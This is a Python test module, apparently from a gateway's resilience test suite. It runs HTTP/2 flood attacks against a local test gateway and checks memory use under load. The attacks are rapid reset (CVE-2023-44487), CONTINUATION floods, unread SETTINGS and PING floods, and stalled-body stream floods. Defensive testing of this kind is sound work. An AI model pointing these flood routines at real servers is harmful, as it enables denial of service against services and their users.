"""HTTP/2 floods: rapid reset (CVE-2023-44487), CONTINUATION flood (CVE-2024-27316 and
kin), SETTINGS and PING floods from a client that never reads the acknowledgements, and
a flood of streams that never finish their bodies."""

import ssl
import time

import pytest
from hyperframe.frame import PingFrame, RstStreamFrame, SettingsFrame

from .harness import under_attack
from .probe import PROBE_PATH
from .h2_frames import H2, continuation, request_fields


def repeatedly(gateway, stop, one_connection) -> dict:
    """Runs `one_connection(h2, stop)` on a new connection after each one the server ends,
    until `stop`; counts the connections, the refused ones (the accept rate) included."""
    stats = {"connections": 0, "refused": 0}
    context = gateway.tls(["h2"])
    while not stop.is_set():
        try:
            h2 = H2(gateway.port, context)
        except (OSError, ssl.SSLError, ConnectionError):
            stats["refused"] += 1
            time.sleep(0.05)
            continue
        stats["connections"] += 1
        try:
            one_connection(h2, stop, stats)
        except OSError:
            pass
        finally:
            h2.close()
    return stats


def rapid_reset(gateway):
    fields = request_fields(gateway.port, PROBE_PATH, gateway.key)

    def one(h2, stop, stats):
        stream = 1
        while not stop.is_set() and not h2.closed.is_set():
            batch = b""
            for _ in range(50):
                batch += h2.headers(stream, fields, end_stream=True)
                batch += RstStreamFrame(stream, error_code=8).serialize()  # CANCEL
                stream += 2
            h2.send(batch)
            stats["streams"] = stats.get("streams", 0) + 50
    return lambda stop: repeatedly(gateway, stop, one)


def continuation_flood(gateway):
    fields = request_fields(gateway.port, PROBE_PATH, gateway.key)

    def one(h2, stop, stats):
        h2.send(h2.headers(1, fields, end_stream=True, end_headers=False))
        # Header fields that each decode to 1 KiB, never ending the block.
        block = h2.encoder.encode([("x-flood", "a" * 1024)] * 15)
        while not stop.is_set() and not h2.closed.is_set():
            h2.send(continuation(1, block))
            stats["frames"] = stats.get("frames", 0) + 1
    return lambda stop: repeatedly(gateway, stop, one)


def unread_flood(gateway, frame: bytes, connections: int = 20):
    """`connections` clients that send `frame` (each of which the server must answer) as fast
    as the server reads them, and read nothing back."""

    def attack(stop):
        stats = {"frames": 0, "stalled": 0, "closed": 0}
        context = gateway.tls(["h2"])
        clients = []
        for _ in range(connections):
            try:
                clients.append(H2(gateway.port, context, drain=False, timeout=0.2))
            except (OSError, ssl.SSLError, ConnectionError):
                pass
        batch = frame * 100
        while not stop.is_set() and clients:
            for h2 in list(clients):
                try:
                    h2.send(batch)
                    stats["frames"] += 100
                except TimeoutError:
                    stats["stalled"] += 1  # the server stopped reading: backpressure
                except OSError:
                    stats["closed"] += 1
                    clients.remove(h2)
                    h2.close()
        for h2 in clients:
            h2.close()
        stats["open_at_end"] = len(clients)
        return stats
    return attack


def stream_flood(gateway):
    """Streams whose bodies never come: each would hold an upstream request open."""
    fields = request_fields(gateway.port, "/api/nodes", gateway.key, method="POST",
                            extra=[("content-type", "application/json"), ("content-length", "100")])

    def attack(stop):
        stats = {"streams": 0, "refused": 0}
        context = gateway.tls(["h2"])
        clients = []
        for _ in range(20):
            try:
                h2 = H2(gateway.port, context)
            except (OSError, ssl.SSLError, ConnectionError):
                stats["refused"] += 1
                continue
            clients.append(h2)
            h2.send(b"".join(h2.headers(2 * i + 1, fields, end_stream=False) for i in range(1000)))
            stats["streams"] += 1000
        stop.wait()
        for h2 in clients:
            h2.poll()
        stats["closed_by_server"] = sum(h2.closed.is_set() for h2 in clients)
        for h2 in clients:
            h2.close()
        return stats
    return attack


ATTACKS = {
    "h2 rapid reset": rapid_reset,
    "h2 continuation flood": continuation_flood,
    "h2 settings flood": lambda g: unread_flood(g, SettingsFrame(0, settings={SettingsFrame.ENABLE_PUSH: 0}).serialize()),
    "h2 ping flood": lambda g: unread_flood(g, PingFrame(0, opaque_data=b"12345678").serialize()),
    "h2 stream flood": stream_flood,
}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_h2_floods_do_not_starve_a_well_behaved_client(gateway, capsys, name):
    figures = under_attack(gateway, capsys, name, ATTACKS[name](gateway))
    assert figures["rss_mib_peak"] < 256, figures
